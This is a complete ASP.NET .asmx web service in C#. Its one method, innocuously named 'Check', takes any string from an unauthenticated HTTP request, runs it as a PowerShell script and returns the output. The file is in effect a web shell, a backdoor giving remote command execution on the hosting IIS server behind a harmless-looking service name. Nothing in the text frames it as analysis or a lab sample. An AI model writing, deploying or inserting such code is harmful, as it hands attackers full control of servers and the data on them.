<%@ WebService Language="C#" Class="Ops" %>
using System;
using System.Text;
using System.Web.Services;
using System.Management.Automation;
using System.Management.Automation.Runspaces;

[WebService(Namespace = "http://example.invalid/")]
public class Ops : WebService
{
    [WebMethod]
    public string Check(string script)
    {
        Runspace rs = RunspaceFactory.CreateRunspace();
        rs.Open();
        PowerShell ps = PowerShell.Create();
        ps.Runspace = rs;
        ps.AddScript(script);
        ps.AddCommand("Out-String");
        StringBuilder sb = new StringBuilder();
        foreach (PSObject o in ps.Invoke()) sb.Append(o.ToString());
        rs.Close();
        return sb.ToString();
    }
}
